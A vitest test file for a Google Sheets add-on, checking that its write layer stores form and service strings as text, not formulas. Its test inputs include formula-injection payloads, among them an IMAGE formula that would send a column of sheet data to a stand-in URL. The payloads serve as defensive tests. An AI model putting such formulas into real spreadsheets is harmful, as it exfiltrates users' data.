/**
 * A string Sheets takes for a formula (a form answer, a name from the service) is written as
 * text by the one wall every write goes through (addon/src/sheets/io.ts), at no extra Apps
 * Script call; and the spreadsheet double reads a written string as Sheets does.
 */
import { describe, expect, it } from 'vitest';
import { writeColumn, writeRows } from '../../addon/src/sheets/io.ts';
import { as, CallLog } from './doubles/calls.ts';
import { FakeSpreadsheet, type FakeSheet } from './doubles/spreadsheet.ts';

type Sheet = GoogleAppsScript.Spreadsheet.Sheet;

const newSheet = () => {
  const log = new CallLog();
  const fake = new FakeSpreadsheet(log, 'book-1', 'Text', 'America/New_York').insertSheet('Tab') as unknown as FakeSheet;
  return { log, fake, sheet: as<Sheet>(fake) };
};

const RISKY = ['=IMAGE("https://x/?"&JOIN(",",E2:E999))', '+SUM(A1:A9)', '-2+3', '@NOW', '\t=1+1', '\r=1+1', "'quoted"];

describe('the spreadsheet double', () => {
  it('makes a written string starting with = a formula, unless the cell is plain text or the string starts with an apostrophe', () => {
    const { fake, sheet } = newSheet();
    sheet.getRange(1, 1, 1, 2).setValues([['=1+1', 'plain']]);
    expect([...fake.formulas]).toEqual([['1:1', '=1+1']]);
    sheet.getRange(2, 1, 1, 1).setNumberFormat('@');
    sheet.getRange(2, 1, 1, 2).setValues([['=1+1', '=2+2']]);
    expect([...fake.formulas.keys()]).toEqual(['1:1', '2:2']);
    sheet.getRange(1, 1).setValue("'=1+1");
    expect(fake.cell(1, 1)).toBe('=1+1');
    expect([...fake.formulas.keys()]).toEqual(['2:2']);
    sheet.getRange(2, 2).clearContent();
    expect(fake.formulas.size).toBe(0);
  });
});

describe('writing rows and columns', () => {
  it('writes every string as text: nothing becomes a formula, and each reads back as given', () => {
    const { fake, sheet } = newSheet();
    writeRows(sheet, 2, [[...RISKY, 12.5, true, 'Nguyen, Bao']]);
    writeColumn(sheet, 12, RISKY);
    expect(fake.formulas.size).toBe(0);
    expect(fake.table()[1]!.slice(0, RISKY.length + 3)).toEqual([...RISKY, 12.5, true, 'Nguyen, Bao']);
    expect(
      fake
        .table()
        .slice(1)
        .map((r) => r[11]),
    ).toEqual(RISKY);
  });

  it('costs no Apps Script call: one setValues for the rows, whatever they hold', () => {
    const plain = newSheet();
    const risky = newSheet();
    writeRows(
      plain.sheet,
      2,
      RISKY.map((_, i) => [`name ${i}`, i]),
    );
    writeRows(
      risky.sheet,
      2,
      RISKY.map((v, i) => [v, i]),
    );
    expect(risky.log.snapshot()).toEqual(plain.log.snapshot());
    expect(risky.log.of('Range.setValues')).toBe(1);
    expect(risky.log.of('Range.setNumberFormat')).toBe(0);
  });
});
